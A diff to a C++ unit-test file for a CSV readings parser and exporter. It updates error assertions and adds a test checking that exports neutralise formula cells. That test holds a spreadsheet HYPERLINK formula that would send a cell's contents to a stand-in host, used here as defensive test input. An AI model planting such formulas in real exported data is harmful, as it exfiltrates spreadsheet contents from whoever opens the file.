@@ -29,7 +29,7 @@ TEST(ReadingsCsvTest, EachKindOfFigure) {
       "T4,2022-02,,,,20.55,657,,\n"
       "T5,2022-02,,,,,,system down,O\n"
       "T6,2022-02,,,,,,,M\n");
-  EXPECT_THAT(file.errors, IsEmpty());
+  EXPECT_THAT(file.errors.Lines(), IsEmpty());
   ASSERT_THAT(file.rows, SizeIs(6));
   EXPECT_EQ(file.rows[0].reading->measurement().value().value(), "98.0");
   EXPECT_EQ(file.rows[1].reading->measurement().ratio().value().value(), "50");
@@ -55,7 +55,7 @@ TEST(ReadingsCsvTest, ARowsCommentIsARecordWithTheRowsId) {
 
 TEST(ReadingsCsvTest, SaysWhichRowsSayNothingOrTooMuch) {
   const ReadingsFile file = Parsed("ref,period,value,mean,weight\nT1,2022-02,,,\nT1,2022-01,1,2,3\nT1,2022-03,5,,\n");
-  EXPECT_THAT(file.errors,
+  EXPECT_THAT(file.errors.Lines(),
               ElementsAre(HasSubstr("line 2: neither a figure nor a comment"), HasSubstr("line 3: fill value, or")));
   EXPECT_THAT(file.rows, SizeIs(1));
   EXPECT_THAT(ParseReadings("period,value\n", "E06000061", "x"),
@@ -83,6 +83,28 @@ TEST(ReadingsCsvTest, WhatIsExportedIsSubmittedAsItWas) {
     again += ReadingsLine(in_force);
   }
   EXPECT_EQ(again, text);
+}
+
+TEST(ReadingsCsvTest, AnExportIsInertAndComesBackTheSame) {
+  v1::ReadingInForce in_force;
+  v1::Reading& reading = *in_force.mutable_reading();
+  reading.set_council("E06000061");
+  reading.set_ref("T1");
+  reading.set_period("2022-02");
+  reading.set_reading_id("r1");
+  reading.mutable_measurement()->mutable_value()->set_value("-3.5");
+  reading.set_published_arrow("-");
+  v1::Comment& comment = *in_force.mutable_comment();
+  comment.set_text("=HYPERLINK(\"http://example.invalid/?x=\"&B2,\"open\")");
+  const std::string line = ReadingsLine(in_force);
+  EXPECT_THAT(line, HasSubstr(",-3.5,"));
+  EXPECT_THAT(line, HasSubstr(",'-,"));
+  EXPECT_THAT(line, HasSubstr("\"'=HYPERLINK("));
+  const ReadingsFile file = Parsed(ReadingsHeader() + line);
+  ASSERT_THAT(file.rows, SizeIs(1));
+  EXPECT_EQ(file.rows[0].reading->measurement().value().value(), "-3.5");
+  EXPECT_EQ(file.rows[0].reading->published_arrow(), "-");
+  EXPECT_EQ(file.rows[0].comment->text(), comment.text());
 }
 
 }  // namespace
